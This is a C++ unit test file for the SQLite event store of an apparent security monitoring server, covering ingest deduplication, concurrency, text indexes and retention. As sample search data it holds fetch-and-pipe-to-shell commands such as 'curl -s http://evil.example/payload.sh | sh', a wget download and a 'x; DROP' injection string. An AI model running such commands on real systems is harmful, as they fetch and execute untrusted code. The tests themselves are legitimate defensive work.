// Unit tests of the SQLite store: round trips, exactly-once ingest, group commit under
// concurrency, FTS, retention, tokens, agents and schema versioning, on temporary files.
#include <google/protobuf/util/message_differencer.h>
#include <gtest/gtest.h>
#include <sqlite3.h>
#include <unistd.h>

#include <filesystem>
#include <limits>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "common/time.hpp"
#include "server/store/free_space.hpp"
#include "server/store/sqlite_tuning.hpp"
#include "server/store/store.hpp"
#include "server/store/text_index_vtab.hpp"

namespace vigil::store {
namespace {

namespace fs = std::filesystem;
using google::protobuf::util::MessageDifferencer;

class StoreTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::temp_directory_path() /
           ("vigil-store-test-" + std::to_string(::getpid()) + "-" +
            ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(dir_);
    fs::create_directories(dir_);
    path_ = dir_ / "vigil.db";
  }
  void TearDown() override { fs::remove_all(dir_); }

  std::unique_ptr<Store> Open(bool sync_full = false) {
    auto store = OpenSqliteStore(SqliteOptions{path_, sync_full});
    EXPECT_TRUE(store.has_value()) << (store ? "" : store.error().message);
    return store ? std::move(*store) : nullptr;
  }

  // Runs SQL directly on the database file; returns the first column of every row.
  std::vector<std::string> Sql(const std::string& sql) {
    sqlite3* db = nullptr;
    EXPECT_EQ(sqlite3_open(path_.c_str(), &db), SQLITE_OK);
    EXPECT_TRUE(text_index::RegisterFunction(db));
    std::vector<std::string> rows;
    sqlite3_stmt* stmt = nullptr;
    EXPECT_EQ(sqlite3_prepare_v2(db, sql.c_str(), -1, &stmt, nullptr), SQLITE_OK)
        << sqlite3_errmsg(db);
    int rc;
    while ((rc = sqlite3_step(stmt)) == SQLITE_ROW) {
      const auto* text = sqlite3_column_text(stmt, 0);
      rows.emplace_back(text ? reinterpret_cast<const char*>(text) : "NULL");
    }
    EXPECT_EQ(rc, SQLITE_DONE) << sql << ": " << sqlite3_errmsg(db);
    sqlite3_finalize(stmt);
    sqlite3_close(db);
    return rows;
  }

  // The rows of `table` matching the wildcard pattern as a hunt finds them: the text index's
  // candidates (a superset) with the exact check (LIKE: these patterns have no _ or %).
  std::vector<std::string> Text(const std::string& table, const std::string& column,
                                const std::string& pattern) {
    return Sql("SELECT id FROM \"" + table + "\" WHERE id IN (SELECT id FROM vigil_text('" + table +
               "', '" + column + "', '[\"" + pattern + "\"]')) AND " + column + " LIKE replace('" +
               pattern + "', '*', '%') ORDER BY id");
  }

  std::vector<v1::Event> Query(Store& store, EventQuery q) {
    std::vector<v1::Event> out;
    auto r = store.QueryEvents(q, [&](v1::Event&& e) {
      out.push_back(std::move(e));
      return true;
    });
    EXPECT_TRUE(r.has_value()) << (r ? "" : r.error().message);
    return out;
  }

  fs::path dir_;
  fs::path path_;
};

v1::Event ProcessEvent(std::int64_t ts, const std::string& host, const std::string& cmdline) {
  v1::Event e;
  e.set_timestamp(ts);
  e.set_event_category("process");
  e.set_event_type("start");
  e.set_event_action("exec");
  e.set_host_id("id-" + host);
  e.set_host_name(host);
  e.set_process_entity_id("ent-" + std::to_string(ts));
  e.set_process_pid(4242);
  e.set_process_name("bash");
  e.set_process_executable("/usr/bin/bash");
  e.set_process_command_line(cmdline);
  e.add_process_args("bash");
  e.add_process_args("-c");
  e.add_process_args("echo \"quoted\" \\ back\nslash\ttab \x01 caf\xc3\xa9");
  e.set_process_args_count(3);
  e.set_vigil_process_args_truncated(true);
  e.set_process_hash_sha256(std::string(64, 'a'));
  e.set_process_parent_command_line("/usr/sbin/sshd -D");
  e.set_process_start(ts - 5);
  e.set_process_exit_code(-1);
  return e;
}

v1::Event NetworkEvent(std::int64_t ts, const std::string& host) {
  v1::Event e;
  e.set_timestamp(ts);
  e.set_event_category("network");
  e.set_host_id("id-" + host);
  e.set_host_name(host);
  e.set_source_ip("10.0.0.5");
  e.set_source_port(51234);
  e.set_destination_ip("2001:db8::1");
  e.set_destination_port(443);
  e.set_vigil_destination_external(false);
  (*e.mutable_extra())["sysmon.RuleName"] = "technique_id=T1071";
  (*e.mutable_extra())["weird \"key\""] = "va\\lue\n";
  return e;
}

v1::Event DnsEvent(std::int64_t ts, const std::string& host) {
  v1::Event e;
  e.set_timestamp(ts);
  e.set_event_category("dns");
  e.set_host_name(host);
  e.set_dns_question_name("example.org");
  e.add_dns_resolved_ip("93.184.216.34");
  e.add_dns_resolved_ip("2606:2800:220:1::");
  return e;
}

v1::Event FileEvent(std::int64_t ts, const std::string& host, const std::string& path) {
  v1::Event e;
  e.set_timestamp(ts);
  e.set_event_category("file");
  e.set_host_id("id-" + host);
  e.set_host_name(host);
  e.set_file_path(path);
  e.set_file_size(1234567890123);
  return e;
}

// An EventQuery with the given changes from the defaults.
EventQuery Q(std::size_t limit = 100, bool newest_first = true) {
  EventQuery q;
  q.limit = limit;
  q.newest_first = newest_first;
  return q;
}

IngestBatch Batch(std::string agent, std::uint64_t epoch, std::uint64_t first,
                  std::vector<v1::Event> events) {
  return IngestBatch{std::move(agent), epoch, first, std::move(events)};
}

std::vector<v1::Event> Simple(int n, std::int64_t ts0) {
  std::vector<v1::Event> events;
  for (int i = 0; i < n; ++i)
    events.push_back(FileEvent(ts0 + i, "h", "/tmp/f" + std::to_string(i)));
  return events;
}

TEST_F(StoreTest, RoundTripsEveryFieldTypeAcrossCategories) {
  auto store = Open();
  std::vector<v1::Event> events = {ProcessEvent(1000, "alpha", "bash -c 'curl http://x | sh'"),
                                   NetworkEvent(2000, "alpha"), DnsEvent(3000, "beta"),
                                   FileEvent(4000, "beta", "/etc/cron.d/evil")};
  std::vector<IngestBatch> batches = {Batch("agent-1", 7, 100, events)};
  auto appended = store->Append(batches);
  ASSERT_TRUE(appended) << appended.error().message;
  ASSERT_EQ(appended->size(), 1u);
  EXPECT_EQ((*appended)[0].stored, 4u);
  EXPECT_EQ((*appended)[0].duplicates, 0u);
  EXPECT_EQ((*appended)[0].rejected, 0u);
  EXPECT_EQ((*appended)[0].committed_sequence, 103u);

  auto got = Query(*store, Q(0, false));
  ASSERT_EQ(got.size(), 4u);
  for (std::size_t i = 0; i < got.size(); ++i) {
    v1::Event want = events[i];
    want.set_event_sequence(static_cast<std::int64_t>(100 + i));
    ASSERT_TRUE(got[i].has_event_ingested());
    EXPECT_GT(got[i].event_ingested(), 0);
    want.set_event_ingested(got[i].event_ingested());
    std::string diff;
    MessageDifferencer differ;
    differ.ReportDifferencesToString(&diff);
    EXPECT_TRUE(differ.Compare(want, got[i])) << "event " << i << ": " << diff;
  }
  // Newest first, one category, a host, a time range, a limit.
  auto newest = Query(*store, Q(2));
  ASSERT_EQ(newest.size(), 2u);
  EXPECT_EQ(newest[0].timestamp(), 4000);
  EXPECT_EQ(newest[1].timestamp(), 3000);
  auto dns = Query(*store, [] {
    auto q = Q();
    q.category = schema::Category::Dns;
    return q;
  }());
  ASSERT_EQ(dns.size(), 1u);
  EXPECT_EQ(dns[0].dns_resolved_ip_size(), 2);
  EXPECT_EQ(Query(*store,
                  [] {
                    auto q = Q();
                    q.host = "beta";
                    return q;
                  }())
                .size(),
            2u);  // by host.name
  EXPECT_EQ(Query(*store,
                  [] {
                    auto q = Q();
                    q.host = "id-alpha";
                    return q;
                  }())
                .size(),
            2u);  // by host.id
  EXPECT_EQ(Query(*store,
                  [] {
                    auto q = Q();
                    q.since_ns = 2000;
                    q.until_ns = 4000;
                    return q;
                  }())
                .size(),
            2u);
  auto stopped = 0;
  ASSERT_TRUE(store->QueryEvents(EventQuery{}, [&](v1::Event&&) { return ++stopped < 3; }));
  EXPECT_EQ(stopped, 3);
  EXPECT_EQ(*store->CountEvents(std::nullopt), 4u);
  EXPECT_EQ(*store->CountEvents(schema::Category::Process), 1u);
  // Lists are JSON arrays in their column.
  EXPECT_EQ(Sql("SELECT dns_resolved_ip FROM dns"),
            std::vector<std::string>{R"(["93.184.216.34","2606:2800:220:1::"])"});
}

TEST_F(StoreTest, MissingTimestampGetsIngestTimeAndUnknownCategoryIsRejected) {
  auto store = Open();
  v1::Event no_ts;
  no_ts.set_event_category("host");
  v1::Event no_category;
  no_category.set_timestamp(5);
  v1::Event bad_category;
  bad_category.set_event_category("bogus");
  const std::int64_t before = NowNs();
  auto r = store->Append(std::vector{Batch("a", 1, 1, {no_ts, no_category, bad_category})});
  ASSERT_TRUE(r);
  EXPECT_EQ((*r)[0].stored, 1u);
  EXPECT_EQ((*r)[0].rejected, 2u);
  EXPECT_EQ((*r)[0].committed_sequence, 3u);
  auto got = Query(*store, EventQuery{});
  ASSERT_EQ(got.size(), 1u);
  EXPECT_GE(got[0].timestamp(), before);
}

TEST_F(StoreTest, DeduplicatesPerAgentAndEpoch) {
  auto store = Open();
  auto first = store->Append(std::vector{Batch("agent-1", 1, 1, Simple(10, 100))});
  ASSERT_TRUE(first);
  EXPECT_EQ((*first)[0].stored, 10u);
  EXPECT_EQ((*first)[0].committed_sequence, 10u);

  auto again = store->Append(std::vector{Batch("agent-1", 1, 1, Simple(10, 100))});
  ASSERT_TRUE(again);
  EXPECT_EQ((*again)[0].stored, 0u);
  EXPECT_EQ((*again)[0].duplicates, 10u);
  EXPECT_EQ((*again)[0].committed_sequence, 10u);

  // Overlap: sequences 6..15, of which 11..15 are new.
  auto overlap = store->Append(std::vector{Batch("agent-1", 1, 6, Simple(10, 200))});
  ASSERT_TRUE(overlap);
  EXPECT_EQ((*overlap)[0].stored, 5u);
  EXPECT_EQ((*overlap)[0].duplicates, 5u);
  EXPECT_EQ((*overlap)[0].committed_sequence, 15u);
  auto tail = Query(*store, Q(5));
  ASSERT_EQ(tail.size(), 5u);
  EXPECT_EQ(tail[0].timestamp(), 209);
  EXPECT_EQ(tail[0].event_sequence(), 15);
  EXPECT_EQ(tail[4].timestamp(), 205);

  // Another epoch or another agent starts over; two batches of one call see each other.
  auto other = store->Append(std::vector{Batch("agent-1", 2, 1, Simple(3, 300)),
                                         Batch("agent-2", 1, 1, Simple(3, 400)),
                                         Batch("agent-2", 1, 2, Simple(3, 500))});
  ASSERT_TRUE(other);
  EXPECT_EQ((*other)[0].stored, 3u);
  EXPECT_EQ((*other)[1].stored, 3u);
  EXPECT_EQ((*other)[2].stored, 1u);
  EXPECT_EQ((*other)[2].duplicates, 2u);
  EXPECT_EQ((*other)[2].committed_sequence, 4u);
  EXPECT_EQ(*store->CommittedSequence("agent-1", 1), 15u);
  EXPECT_EQ(*store->CommittedSequence("agent-1", 2), 3u);
  EXPECT_EQ(*store->CommittedSequence("agent-2", 1), 4u);
  EXPECT_EQ(*store->CommittedSequence("nobody", 1), 0u);
  EXPECT_EQ(*store->CountEvents(std::nullopt), 22u);
}

TEST_F(StoreTest, UnsequencedBatchesAreNeverDeduplicated) {
  auto store = Open();
  for (int i = 0; i < 2; ++i) {
    auto r = store->Append(std::vector{Batch("", 0, 0, Simple(7, 100))});
    ASSERT_TRUE(r);
    EXPECT_EQ((*r)[0].stored, 7u);
    EXPECT_EQ((*r)[0].duplicates, 0u);
  }
  EXPECT_EQ(*store->CountEvents(schema::Category::File), 14u);
}

TEST_F(StoreTest, ConcurrentAppendsAreExactlyOnce) {
  auto store = Open(/*sync_full=*/true);
  constexpr int kThreads = 8, kBatches = 40, kPerBatch = 25;
  std::vector<std::thread> threads;
  std::atomic<int> failures{0};
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      const std::string agent = "agent-" + std::to_string(t);
      for (int b = 0; b < kBatches; ++b) {
        const auto first = static_cast<std::uint64_t>(b * kPerBatch + 1);
        auto batch = Batch(agent, 1, first, Simple(kPerBatch, t * 100000 + b * kPerBatch));
        // Every other batch is sent twice (a lost ack): the resend must store nothing.
        for (int send = 0; send < (b % 2 ? 2 : 1); ++send) {
          auto r = store->Append(std::span<const IngestBatch>(&batch, 1));
          if (!r || (*r)[0].stored != (send == 0 ? kPerBatch : 0u) ||
              (*r)[0].committed_sequence != first + kPerBatch - 1)
            ++failures;
        }
      }
    });
  }
  for (auto& th : threads) th.join();
  EXPECT_EQ(failures.load(), 0);
  EXPECT_EQ(*store->CountEvents(std::nullopt),
            static_cast<std::uint64_t>(kThreads * kBatches * kPerBatch));
  for (int t = 0; t < kThreads; ++t)
    EXPECT_EQ(*store->CommittedSequence("agent-" + std::to_string(t), 1),
              static_cast<std::uint64_t>(kBatches * kPerBatch));
  // Callers that arrived while a commit ran were committed together (what bench_store_ingest
  // --group measures): fewer transactions than batches.
  const CommitStats commits = store->Commits();
  EXPECT_EQ(commits.batches, static_cast<std::uint64_t>(kThreads * (kBatches + kBatches / 2)));
  EXPECT_LT(commits.transactions, commits.batches);
  EXPECT_GT(commits.transactions, 0u);
}

TEST_F(StoreTest, DataSurvivesReopen) {
  {
    auto store = Open(true);
    ASSERT_TRUE(store->Append(std::vector{Batch("a", 1, 1, Simple(12, 100))}));
    ASSERT_TRUE(store->RegisterAgent("a", "alpha"));
  }
  auto store = Open(true);
  EXPECT_EQ(*store->CountEvents(std::nullopt), 12u);
  EXPECT_EQ(*store->CommittedSequence("a", 1), 12u);
  EXPECT_TRUE(*store->AgentExists("a"));
  auto r = store->Append(std::vector{Batch("a", 1, 1, Simple(13, 100))});
  ASSERT_TRUE(r);
  EXPECT_EQ((*r)[0].stored, 1u);
}

TEST_F(StoreTest, TrigramIndexFindsSubstrings) {
  auto store = Open();
  ASSERT_TRUE(store->Append(
      std::vector{Batch("", 0, 0,
                        {ProcessEvent(1, "h", "curl -s http://evil.example/payload.sh | sh"),
                         ProcessEvent(2, "h", "/usr/bin/python3 -m http.server 8000"),
                         ProcessEvent(3, "h", "wget http://evil.example/x -O /tmp/x"),
                         FileEvent(4, "h", "/var/tmp/.hidden/evil.so")})}));
  EXPECT_EQ(Text("process", "process_command_line", "*evil.example*"),
            (std::vector<std::string>{"1", "3"}));
  EXPECT_EQ(Text("process", "process_command_line", "*EVIL.Example*"),
            (std::vector<std::string>{"1", "3"}));  // ASCII case-insensitive
  EXPECT_EQ(Text("process", "process_command_line", "*http.serv*"), std::vector<std::string>{"2"});
  EXPECT_EQ(Text("process", "process_command_line", "curl*payload*"),
            std::vector<std::string>{"1"});
  // Parent command lines are indexed too, and the file table has its own index over file.path.
  EXPECT_EQ(Text("process", "process_parent_command_line", "*sshd -D*").size(), 3u);
  EXPECT_EQ(Text("file", "file_path", "*.hidden/*"), std::vector<std::string>{"1"});
  EXPECT_TRUE(Text("process", "process_command_line", "*no such text*").empty());
  // A pattern without three literal characters cannot use it: a clear error.
  sqlite3* db = nullptr;
  ASSERT_EQ(sqlite3_open(path_.c_str(), &db), SQLITE_OK);
  ASSERT_TRUE(text_index::RegisterFunction(db));
  EXPECT_NE(
      sqlite3_exec(db, "SELECT id FROM vigil_text('process', 'process_command_line', '[\"*ab*\"]')",
                   nullptr, nullptr, nullptr),
      SQLITE_OK);
  EXPECT_NE(std::string(sqlite3_errmsg(db)).find("literal run of 3 characters"), std::string::npos)
      << sqlite3_errmsg(db);
  EXPECT_NE(sqlite3_exec(db, "SELECT id FROM vigil_text('process', 'x; DROP', '[\"abc\"]')",
                         nullptr, nullptr, nullptr),
            SQLITE_OK);
  sqlite3_close(db);
}

// Partitions of 65,536 rows are sealed into text_postings by the transaction that completes them;
// the one being written is answered from memory while the store is open, read back from the rows
// when it reopens, and treated as all-candidates by a connection of a process without the store.
TEST_F(StoreTest, TextIndexSealsPartitionsAndRebuildsTheOpenOneOnRestart) {
  constexpr int kEvents = 70000;
  auto command = [](int i) {
    return "/opt/tool-" + std::to_string(i % 100) + " --run " + std::to_string(i);
  };
  std::vector<std::string> expected;  // ids of "tool-7 " (i % 100 == 7)
  for (int i = 0; i < kEvents; ++i)
    if (i % 100 == 7) expected.push_back(std::to_string(i + 1));
  {
    auto store = Open();
    for (int b = 0; b < kEvents / 1000; ++b) {
      std::vector<v1::Event> events;
      for (int i = b * 1000; i < (b + 1) * 1000; ++i)
        events.push_back(ProcessEvent(1000 + i, "h", command(i)));
      ASSERT_TRUE(store->Append(std::vector{Batch("", 0, 0, events)}));
    }
    EXPECT_EQ(Sql("SELECT tbl || ':' || part FROM text_index_parts"),
              std::vector<std::string>{"process:0"});
    EXPECT_GT(std::stoi(Sql("SELECT count(*) FROM text_postings WHERE part = 0")[0]), 1);
    EXPECT_EQ(Text("process", "process_command_line", "*tool-7 *"), expected);
    // The candidates themselves: exact for the sealed partition and the one in memory.
    EXPECT_EQ(Sql("SELECT count(*) FROM vigil_text('process', 'process_command_line', "
                  "'[\"*tool-7 *\"]')"),
              std::vector<std::string>{std::to_string(expected.size())});
    EXPECT_EQ(Sql("SELECT id FROM process WHERE id IN (SELECT id FROM vigil_text('process', "
                  "'process_command_line', '[\"*--run 69999*\", \"*--run 12345*\"]')) AND "
                  "(process_command_line GLOB '*--run 69999*' OR process_command_line GLOB "
                  "'*--run 12345*')"),
              (std::vector<std::string>{"12346", "70000"}));
  }
  // No store in this process: the unsealed partition (ids 65,537..70,000) is all candidates.
  EXPECT_EQ(Sql("SELECT count(*) FROM vigil_text('process', 'process_command_line', "
                "'[\"*tool-7 *\"]')"),
            std::vector<std::string>{std::to_string(656 + (kEvents - 65536))});
  EXPECT_EQ(Text("process", "process_command_line", "*tool-7 *"), expected);
  auto store = Open();  // rebuilds the open partition from its rows
  EXPECT_EQ(Sql("SELECT count(*) FROM vigil_text('process', 'process_command_line', "
                "'[\"*tool-7 *\"]')"),
            std::vector<std::string>{std::to_string(expected.size())});
}

// The term index (vigil_terms) of IPs, hashes, DNS and file names and host names: exact values
// and prefixes, ASCII case-insensitive, from sealed partitions and from the one in memory.
TEST_F(StoreTest, TermIndexFindsValuesAndPrefixesSealedAndLive) {
  constexpr int kEvents = 66000;  // one sealed partition and the start of the next
  auto store = Open();
  for (int b = 0; b < kEvents / 1000; ++b) {
    std::vector<v1::Event> events;
    for (int i = b * 1000; i < (b + 1) * 1000; ++i) {
      v1::Event e = NetworkEvent(1000 + i, "Web-" + std::to_string(i % 7));
      e.set_destination_ip("10." + std::to_string(i % 3) + ".0." + std::to_string(i % 250));
      events.push_back(std::move(e));
    }
    ASSERT_TRUE(store->Append(std::vector{Batch("", 0, 0, events)}));
  }
  auto expect = [&](auto wanted) {
    int n = 0, first = 0, last = 0;
    for (int i = 0; i < kEvents; ++i)
      if (wanted(i)) {
        ++n;
        if (!first) first = i + 1;
        last = i + 1;
      }
    return std::to_string(n) + "|" + std::to_string(first) + "|" + std::to_string(last);
  };
  auto row = [&](const std::string& column, const std::string& mode, const std::string& values) {
    return Sql(
        "SELECT count(*) || '|' || coalesce(min(id), '') || '|' || coalesce(max(id), '') "
        "FROM vigil_terms('network', '" +
        column + "', '" + mode + "', '" + values + "')")[0];
  };
  EXPECT_EQ(row("destination_ip", "eq", R"(["10.1.0.7"])"),
            expect([](int i) { return i % 3 == 1 && i % 250 == 7; }));
  EXPECT_EQ(row("destination_ip", "eq", R"(["10.1.0.7", "10.2.0.249"])"), expect([](int i) {
              return (i % 3 == 1 && i % 250 == 7) || (i % 3 == 2 && i % 250 == 249);
            }));
  EXPECT_EQ(row("destination_ip", "prefix", R"(["10.2."])"),
            expect([](int i) { return i % 3 == 2; }));
  EXPECT_EQ(row("destination_ip", "prefix", R"(["10.0.0.2"])"),  // .2, .20-.29, .200-.249
            expect([](int i) {
              int last = i % 250;
              return i % 3 == 0 && (last == 2 || (last >= 20 && last <= 29) || last >= 200);
            }));
  EXPECT_EQ(row("host_name", "eq", R"(["WEB-3"])"), expect([](int i) { return i % 7 == 3; }));
  EXPECT_EQ(row("host_name", "eq", R"(["nope"])"), "0||");
  EXPECT_EQ(Sql("SELECT tbl || ':' || part FROM text_index_parts"),
            std::vector<std::string>{"network:0"});
  // Bad arguments: clear errors.
  sqlite3* db = nullptr;
  ASSERT_EQ(sqlite3_open(path_.c_str(), &db), SQLITE_OK);
  ASSERT_TRUE(text_index::RegisterFunction(db));
  EXPECT_NE(sqlite3_exec(db, "SELECT id FROM vigil_terms('network', 'host_name', 'like', '[]')",
                         nullptr, nullptr, nullptr),
            SQLITE_OK);
  EXPECT_NE(std::string(sqlite3_errmsg(db)).find("mode must be 'eq' or 'prefix'"),
            std::string::npos)
      << sqlite3_errmsg(db);
  EXPECT_NE(sqlite3_exec(db, "SELECT id FROM vigil_terms('network', 'host_name', 'eq', '{')",
                         nullptr, nullptr, nullptr),
            SQLITE_OK);
  EXPECT_NE(std::string(sqlite3_errmsg(db)).find("JSON array of strings"), std::string::npos);
  sqlite3_close(db);
  // The events API finds a host by name through it (case as stored).
  EventQuery q = Q(0);
  q.host = "Web-3";
  EXPECT_EQ(Query(*store, q).size(), static_cast<std::size_t>(kEvents / 7 + (kEvents % 7 > 3)));
}

// A database written without the text index (or with the FTS5 tables of older versions) gets
// its rows indexed on open, partition by partition, and the FTS5 tables dropped.
TEST_F(StoreTest, TextIndexIndexesTheRowsOfAnOlderDatabase) {
  {
    SqliteTuning tuning;
    tuning.full_text = false;
    auto old = OpenSqliteStoreTuned(SqliteOptions{path_, false}, tuning);
    ASSERT_TRUE(old) << old.error().message;
    std::vector<v1::Event> events;
    for (int i = 0; i < 140000; ++i)  // two complete partitions and part of a third
      events.push_back(
          ProcessEvent(1000 + i, "h", i == 5 || i == 70000 || i == 139999 ? "needle x" : "hay"));
    ASSERT_TRUE((*old)->Append(std::vector{Batch("", 0, 0, events)}));
  }
  Sql("CREATE VIRTUAL TABLE process_fts USING fts5(process_command_line, tokenize='trigram')");
  auto store = Open();
  EXPECT_TRUE(Sql("SELECT name FROM sqlite_master WHERE name LIKE '%_fts%'").empty());
  EXPECT_EQ(Sql("SELECT tbl || ':' || part FROM text_index_parts"),
            (std::vector<std::string>{"process:0", "process:1"}));
  // Each sealed partition holds its own rows (sealed, then memory for the third).
  EXPECT_EQ(Sql("SELECT id FROM vigil_text('process', 'process_command_line', '[\"needle\"]')"),
            (std::vector<std::string>{"6", "70001", "140000"}));
  EXPECT_EQ(Sql("SELECT count(*) FROM vigil_terms('process', 'host_name', 'eq', '[\"h\"]')"),
            std::vector<std::string>{"140000"});
}

// Below the free-space minimum ingest pauses: Append fails (the gateway does not acknowledge, so
// agents keep the events and resend), nothing is stored; with room it stores as usual.
TEST_F(StoreTest, IngestPausesBelowTheFreeSpaceMinimum) {
  {
    auto blocked = OpenSqliteStore(SqliteOptions{path_, false},
                                   {.min_free_bytes = std::numeric_limits<std::uint64_t>::max()});
    ASSERT_TRUE(blocked) << blocked.error().message;
    auto r = (*blocked)->Append(std::vector{Batch("a", 1, 1, Simple(3, 100))});
    ASSERT_FALSE(r);
    EXPECT_NE(r.error().message.find("ingest paused: " + dir_.string() + " has "),
              std::string::npos)
        << r.error().message;
    EXPECT_NE(r.error().message.find("less than the minimum"), std::string::npos);
    const DiskStatus disk = (*blocked)->Disk();
    EXPECT_TRUE(disk.known);
    EXPECT_TRUE(disk.ingest_paused);
    EXPECT_EQ(disk.dir, dir_.string());
    EXPECT_EQ(*(*blocked)->CountEvents(std::nullopt), 0u);
    EXPECT_EQ(*(*blocked)->CommittedSequence("a", 1), 0u);
  }
  auto store = OpenSqliteStore(SqliteOptions{path_, false}, {.min_free_bytes = 0});
  ASSERT_TRUE(store);
  auto r = (*store)->Append(std::vector{Batch("a", 1, 1, Simple(3, 100))});
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ((*r)[0].stored, 3u);
  EXPECT_FALSE((*store)->Disk().ingest_paused);
  EXPECT_GT((*store)->Disk().free_bytes, 0u);
  // The default minimum: 5 % of the filesystem, within 128 MiB (half of a tiny one) and 1 GiB.
  EXPECT_EQ(DefaultMinFree(100ull << 30), 1ull << 30);
  EXPECT_EQ(DefaultMinFree(10ull << 30), 512ull << 20);
  EXPECT_EQ(DefaultMinFree(1ull << 30), 128ull << 20);
  EXPECT_EQ(DefaultMinFree(12ull << 20), 6ull << 20);
}

TEST_F(StoreTest, RetentionByAgeKeepsTheTextIndexConsistent) {
  auto store = Open();
  const std::int64_t now = NowNs();
  const std::int64_t hour = 3600LL * 1000000000LL;
  std::vector<v1::Event> events;
  for (int i = 0; i < 30; ++i)  // 30 old (2 days) and 20 recent process events
    events.push_back(ProcessEvent(now - 48 * hour + i, "h", "old-command " + std::to_string(i)));
  for (int i = 0; i < 20; ++i)
    events.push_back(ProcessEvent(now - hour + i, "h", "new-command " + std::to_string(i)));
  events.push_back(FileEvent(now - 72 * hour, "h", "/old/file"));
  events.push_back(FileEvent(now - hour, "h", "/new/file"));  // (a table's last row is kept)
  ASSERT_TRUE(store->Append(std::vector{Batch("", 0, 0, events)}));

  auto r = store->ApplyRetention(RetentionPolicy{24 * hour, 0});
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(r->deleted_events, 31u);
  EXPECT_GT(r->bytes_after, 0u);
  EXPECT_EQ(*store->CountEvents(std::nullopt), 21u);
  EXPECT_TRUE(Text("process", "process_command_line", "*old-command*").empty());
  EXPECT_EQ(Text("process", "process_command_line", "*new-command*").size(), 20u);
  EXPECT_TRUE(Text("file", "file_path", "*/old/*").empty());
  EXPECT_EQ(Text("file", "file_path", "*/new/*").size(), 1u);
}

// DNS names are in the text index too: rows appended are found by substring, rows deleted by
// retention are not.
TEST_F(StoreTest, DnsNameTrigramIndexFollowsInsertsAndRetention) {
  auto store = Open();
  const std::int64_t now = NowNs();
  const std::int64_t hour = 3600LL * 1000000000LL;
  auto dns = [&](std::int64_t ts, const std::string& name) {
    v1::Event e = DnsEvent(ts, "h");
    e.set_dns_question_name(name);
    return e;
  };
  ASSERT_TRUE(store->Append(std::vector{
      Batch("", 0, 0,
            {dns(now - 48 * hour, "old.evil-c2.net"), dns(now - hour, "update.evil-c2.net"),
             dns(now - hour + 1, "www.example.org"), DnsEvent(now - hour + 2, "h")})}));
  auto matches = [&](const std::string& text) {
    return Sql(
        "SELECT dns_question_name FROM dns WHERE id IN (SELECT id FROM vigil_text('dns', "
        "'dns_question_name', '[\"*" +
        text + "*\"]')) ORDER BY id");
  };
  EXPECT_EQ(matches(".evil-c2.net"),
            (std::vector<std::string>{"old.evil-c2.net", "update.evil-c2.net"}));
  auto r = store->ApplyRetention(RetentionPolicy{24 * hour, 0});
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(matches(".evil-c2.net"), std::vector<std::string>{"update.evil-c2.net"});
  EXPECT_EQ(matches("example.org"), (std::vector<std::string>{"www.example.org", "example.org"}));
}

// Live detection reads each table after the last row id it evaluated: ids must never repeat, so
// retention keeps a table's last row (SQLite would give the next row max(id) + 1 again).
TEST_F(StoreTest, RetentionKeepsEachTablesLastRowSoIdsNeverRepeat) {
  auto store = Open();
  const std::int64_t now = NowNs();
  const std::int64_t day = 86400LL * 1000000000LL;
  std::vector<v1::Event> old;
  for (int i = 0; i < 5; ++i) old.push_back(ProcessEvent(now - 10 * day + i, "h", "old"));
  ASSERT_TRUE(store->Append(std::vector{Batch("", 0, 0, old)}));
  EXPECT_EQ(*store->LastEventId(schema::Category::Process), 5);
  auto r = store->ApplyRetention(RetentionPolicy{day, 0});
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(r->deleted_events, 4u);
  ASSERT_TRUE(store->Append(std::vector{Batch("", 0, 0, {ProcessEvent(now, "h", "new")})}));
  std::vector<std::pair<std::int64_t, std::string>> rows;
  ASSERT_TRUE(store->ReadEventsAfter(schema::Category::Process, 0, 100,
                                     [&](std::int64_t id, v1::Event&& e) {
                                       rows.emplace_back(id, e.process_command_line());
                                       return true;
                                     }));
  EXPECT_EQ(rows, (std::vector<std::pair<std::int64_t, std::string>>{{5, "old"}, {6, "new"}}));
  // After a given id, with a limit.
  rows.clear();
  ASSERT_TRUE(
      store->ReadEventsAfter(schema::Category::Process, 5, 1, [&](std::int64_t id, v1::Event&& e) {
        rows.emplace_back(id, e.process_command_line());
        return true;
      }));
  EXPECT_EQ(rows, (std::vector<std::pair<std::int64_t, std::string>>{{6, "new"}}));
  EXPECT_EQ(*store->LastEventId(schema::Category::Network), 0);
}

TEST_F(StoreTest, RetentionBySizeDeletesOldestUntilUnderTheBound) {
  auto store = Open();
  std::int64_t ts = 1'000'000;
  for (int b = 0; b < 20; ++b) {
    std::vector<v1::Event> events;
    for (int i = 0; i < 500; ++i, ++ts) {
      if (i % 2)
        events.push_back(ProcessEvent(ts, "h",
                                      "/usr/bin/some-tool --flag=" + std::to_string(ts) +
                                          " --padding " + std::string(100, 'p')));
      else
        events.push_back(NetworkEvent(ts, "h"));
    }
    ASSERT_TRUE(store->Append(std::vector{Batch("", 0, 0, events)}));
  }
  const std::int64_t newest = ts - 1;
  auto before = store->ApplyRetention(RetentionPolicy{});
  ASSERT_TRUE(before);
  EXPECT_EQ(before->deleted_events, 0u);
  const std::uint64_t bound = before->bytes_after / 2;

  auto r = store->ApplyRetention(RetentionPolicy{0, bound});
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_LE(r->bytes_after, bound);
  EXPECT_GT(r->deleted_events, 0u);
  const auto left = *store->CountEvents(std::nullopt);
  EXPECT_EQ(left + r->deleted_events, 10000u);
  EXPECT_GT(left, 1000u);  // it did not throw everything away
  // The newest events are kept, the oldest are gone, and whatever remains is contiguous.
  auto newest_first = Query(*store, Q(1));
  ASSERT_EQ(newest_first.size(), 1u);
  EXPECT_EQ(newest_first[0].timestamp(), newest);
  auto oldest = Query(*store, Q(1, false));
  ASSERT_EQ(oldest.size(), 1u);
  EXPECT_EQ(oldest[0].timestamp(), newest - static_cast<std::int64_t>(left) + 1);
  // The text index finds exactly the process events left.
  EXPECT_EQ(Text("process", "process_command_line", "*some-tool*").size(),
            *store->CountEvents(schema::Category::Process));
  // The file shrank (incremental vacuum + WAL truncation).
  EXPECT_LE(fs::file_size(path_), before->bytes_after);
}

